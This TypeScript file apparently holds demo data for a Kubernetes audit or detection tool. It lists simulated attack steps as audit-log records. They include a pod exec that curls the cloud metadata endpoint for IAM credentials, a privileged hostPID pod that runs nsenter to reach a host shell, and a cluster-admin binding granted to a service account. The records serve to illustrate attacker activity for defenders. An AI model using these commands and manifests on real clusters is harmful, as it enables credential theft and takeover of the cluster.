import type { DemoRequest } from './audit-event.js'

type Attack = Omit<DemoRequest, 'auditID' | 'time'>

const MALLORY = { username: 'mallory@example.com', groups: ['developers', 'system:authenticated'] }
const OUTSIDE_IP = '203.0.113.66'
const KUBECTL = 'kubectl/v1.31.1 (linux/amd64) kubernetes/948afe5'

/**
 * The attacks woven into the demo, in order: probing anonymously, reading secrets, an exec into a
 * pod that fetches cloud metadata, a privileged hostPID pod, and a cluster-admin binding for a
 * service account. Each is what a real kube-apiserver logs for it.
 */
export const ATTACK_STEPS: Attack[] = [
  { verb: 'get', user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, sourceIP: OUTSIDE_IP, userAgent: 'curl/8.5.0', resource: 'secrets', namespace: 'kube-system', code: 403 },
  { verb: 'list', user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, sourceIP: OUTSIDE_IP, userAgent: 'curl/8.5.0', resource: 'pods', code: 200 },
  {
    verb: 'get', user: MALLORY, sourceIP: OUTSIDE_IP, userAgent: KUBECTL, resource: 'secrets', namespace: 'payments', name: 'stripe-api', code: 200,
    responseObject: { kind: 'Secret', apiVersion: 'v1', metadata: { name: 'stripe-api', namespace: 'payments' }, data: { apiKey: 'c2tfbGl2ZV9ERU1PU0VDUkVUX2RvX25vdF9sZWFr' }, type: 'Opaque' },
  },
  {
    verb: 'get', user: MALLORY, sourceIP: OUTSIDE_IP, userAgent: KUBECTL, resource: 'pods', subresource: 'exec', namespace: 'payments', name: 'checkout-7d9f', code: 101, stage: 'ResponseStarted',
    query: 'command=sh&command=-c&command=curl+http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F&container=checkout&stdin=true&stdout=true&tty=true',
  },
  {
    verb: 'get', user: MALLORY, sourceIP: OUTSIDE_IP, userAgent: KUBECTL, resource: 'pods', subresource: 'exec', namespace: 'payments', name: 'checkout-7d9f', code: 101,
    query: 'command=sh&command=-c&command=curl+http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F&container=checkout&stdin=true&stdout=true&tty=true',
  },
  {
    verb: 'create', user: MALLORY, sourceIP: OUTSIDE_IP, userAgent: KUBECTL, resource: 'pods', namespace: 'payments', name: 'debug-node', code: 201,
    requestObject: {
      kind: 'Pod', apiVersion: 'v1', metadata: { name: 'debug-node', namespace: 'payments' },
      spec: { hostPID: true, hostNetwork: true, containers: [{ name: 'shell', image: 'alpine:3.20', command: ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', 'sh'], securityContext: { privileged: true } }] },
    },
  },
  {
    verb: 'create', user: MALLORY, sourceIP: OUTSIDE_IP, userAgent: KUBECTL, resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', name: 'backup-admin', code: 201,
    requestObject: {
      kind: 'ClusterRoleBinding', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name: 'backup-admin' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ kind: 'ServiceAccount', name: 'backup', namespace: 'payments' }],
    },
  },
]
